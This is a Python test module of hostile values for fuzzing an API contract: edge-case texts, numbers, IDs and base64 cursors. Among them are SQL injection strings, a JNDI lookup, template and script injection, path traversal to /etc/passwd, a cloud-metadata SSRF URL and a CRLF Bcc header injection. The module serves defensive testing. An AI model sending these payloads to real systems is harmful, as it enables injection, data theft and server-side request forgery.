"""Hostile values: texts and numbers at the ends of what can be written, for every type of the contract."""

from collections.abc import Sequence

TEXTS: Sequence[str] = (
    "",
    " ",
    "\t\r\n",
    "null",
    "undefined",
    "x" * 10_000,
    "é" * 3_000,
    "\u0000",
    "a\u0000b",
    "\u202egnp.exe",
    "\ufeff",
    "\u200b" * 50,
    "🧑‍🌾" * 100,
    "Z̸̢̛͎͐a̷̡͌l̴̰̈g̵̥̎o̶͓͝" * 40,
    "\ud7ff\ue000\uffff",
    "İıſß",
    "' OR '1'='1",
    "'; SELECT pg_sleep(60); --",
    '" OR ""="',
    "$1",
    "%s %(name)s %n",
    "{0.__class__}",
    "${jndi:ldap://x.example}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..%2f..%2f",
    "\\x00\\",
    "&|!():*<->",
    '"unbalanced',
    "-",
    "ou ou ou",
    "( ( ( (",
    "a:* & !b <2> c",
    "\\" * 300,
    "'" * 300,
    "1e400",
    "NaN",
    "-0",
    "0x7fffffff",
    "9" * 400,
    "2026-02-30T25:61:61Z",
    "0000-00-00",
    "-4713-01-01T00:00:00Z",
    "294277-01-01T00:00:00Z",
    "infinity",
    "javascript:alert(1)",
    "http://169.254.169.254/latest/meta-data",
    "https://[::1]:0/",
    "file:///etc/passwd",
    "a@b@c.example",
    "\r\nBcc: x@y.example",
)

NUMBERS: Sequence[object] = (
    0,
    -1,
    1,
    101,
    2**31 - 1,
    2**31,
    -(2**31) - 1,
    2**53,
    2**63,
    -(2**63) - 1,
    10**40,
    0.1,
    -0.0,
    1e308,
    -1e308,
    5e-324,
    90.0000001,
    180.0000001,
)

OTHERS: Sequence[object] = (None, True, False, [], {}, [[]], [None], {"a": None}, {"__typename": "Actor"}, [{}] * 50)

IDS: Sequence[str] = (
    "contribution",
    "contribution_",
    "contribution_1",
    "contribution_1_",
    "contribution_0_0199c0de-0000-7000-8000-000000000000",
    "contribution_1_0199C0DE-0000-7000-8000-000000000000",
    "contribution_999999999999999999_0199c0de-0000-7000-8000-000000000000",
    "contribution_9999999999999999999999_0199c0de-0000-7000-8000-000000000000",
    "contribution_1_0199c0de-0000-7000-8000-000000000000\u0000",
    "platform_1_0199c0de-0000-7000-8000-000000000000",
    "contribution_-1_0199c0de-0000-7000-8000-000000000000",
    "commune-35238",
    "commune-",
    "' UNION SELECT 1",
)

CURSORS: Sequence[str] = (
    "x",
    "====",
    "bnVsbA==",
    "W10=",
    "e30=",
    "WzFd",
    "W251bGwsbnVsbF0=",
    "WyJjb250cmlidXRpb24ubmV3ZXN0Iiwi4oCuIiwxXQ==",
    "A" * 4_000,
    "-_-_",
    "\u0000",
    "🧑",
)


def of(type_: str) -> Sequence[object]:
    """What may be tried where a scalar of the type is wanted; the wrong types, too."""
    if type_ in ("Int", "Float", "Latitude", "Longitude", "Radius"):
        return (*NUMBERS, *OTHERS, *TEXTS[:8])
    if type_ == "ID":
        return (*IDS, *TEXTS, *OTHERS, 1)
    return (*TEXTS, *OTHERS, *NUMBERS[:6])
